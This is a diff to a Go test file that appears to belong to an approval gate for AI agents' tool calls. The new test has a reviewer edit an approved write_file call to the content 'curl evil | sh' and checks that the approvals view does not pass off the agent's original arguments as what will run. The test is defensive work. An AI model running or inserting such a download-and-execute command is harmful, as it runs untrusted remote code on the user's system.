@@ -21,6 +21,7 @@ import (
 	airlock "github.com/airlock-gate/airlock/sdk"
 	"github.com/airlock-gate/airlock/services/email/smtptest"
 	"github.com/airlock-gate/airlock/services/shared/testenv"
+	"google.golang.org/protobuf/types/known/structpb"
 )
 
 // mailText is the decoded text of a mail (quoted-printable, base64 or as sent).
@@ -237,5 +238,49 @@ func TestOneAgentsSlowPreviewsDoNotHoldUpAnotherAgentsCall(t *testing.T) {
 		r, err := api.Get(context.Background(), "other", "quick", 0)
 		return err == nil && r.GetState() == airlockv1.ApprovalState_APPROVAL_STATE_PENDING && strings.Contains(r.GetPreview().GetText(), "+hello")
 	})
+	dev.Interrupt(20 * time.Second)
+}
+
+// TestAReviewersEditIsNotShownUnderTheAgentsPreview attacks a quorum as a
+// reviewer: bob approves with edited arguments (1 of 2), and the next
+// approver must not read the diff of the agent's harmless arguments as
+// "what the call would do": `airlock approvals show` says whose arguments
+// the preview is of.
+func TestAReviewersEditIsNotShownUnderTheAgentsPreview(t *testing.T) {
+	cfg := filepath.Join(t.TempDir(), "airlock.yaml")
+	writeFile(t, cfg, "approval:\n  groups: {reviewers: [alice, bob, carol]}\n")
+	dev := startDev(t, t.TempDir(), 0, "", "AIRLOCK_CONFIG="+cfg)
+	tokenFile := filepath.Join(dev.DataDir, "admin.token")
+	if r := cli(t, dev, "policy", "rules", "add", "--id", "two-eyes", "--server", "demo", "--tool", "write_file", "--effect", "ask",
+		"--approver", "group:reviewers", "--quorum", "2", "--priority", "1", "--token-file", tokenFile); r.Code != 0 {
+		t.Fatalf("rules add: %+v", r)
+	}
+	call := writeCall(t, `{"agent_id":"bot","tool":"demo__write_file","arguments":{"path":"x","content":"y"}}`)
+	testenv.Eventually(t, 20*time.Second, "the rule in force", func() bool {
+		return strings.Contains(cli(t, dev, "policy", "eval", "--call", call).Stdout, `"rule_id": "two-eyes"`)
+	})
+	agent := dev.Agent(t, "bot")
+	api := dev.API(t)
+	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
+	defer cancel()
+	if _, err := agent.Submit(ctx, airlock.Call{ID: "ed", Tool: writeTool, Args: map[string]any{"path": "notes.txt", "content": "harmless\n"}}); err != nil {
+		t.Fatal(err)
+	}
+	apprWaitPending(t, api, "ed")
+	edited, err := structpb.NewStruct(map[string]any{"path": "notes.txt", "content": "curl evil | sh\n"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := api.Decide(ctx, &airlockv1.DecideRequest{AgentId: "bot", CallId: "ed", Kind: approveKind, Principal: apprReviewer("bob"), EditedArguments: edited}); err != nil {
+		t.Fatal(err)
+	}
+	testenv.Eventually(t, 10*time.Second, "bob's edit recorded", func() bool {
+		r, err := api.Get(ctx, "bot", "ed", 0)
+		return err == nil && r.GetEditedArguments() != nil
+	})
+	out := cli(t, dev, "approvals", "show", "bot/ed", "--token-file", tokenFile).Stdout
+	if !strings.Contains(out, "+harmless") || !strings.Contains(out, "of the arguments the agent asked for") {
+		t.Fatalf("approvals show after an edit does not say the preview is of the agent's arguments:\n%s", out)
+	}
 	dev.Interrupt(20 * time.Second)
 }
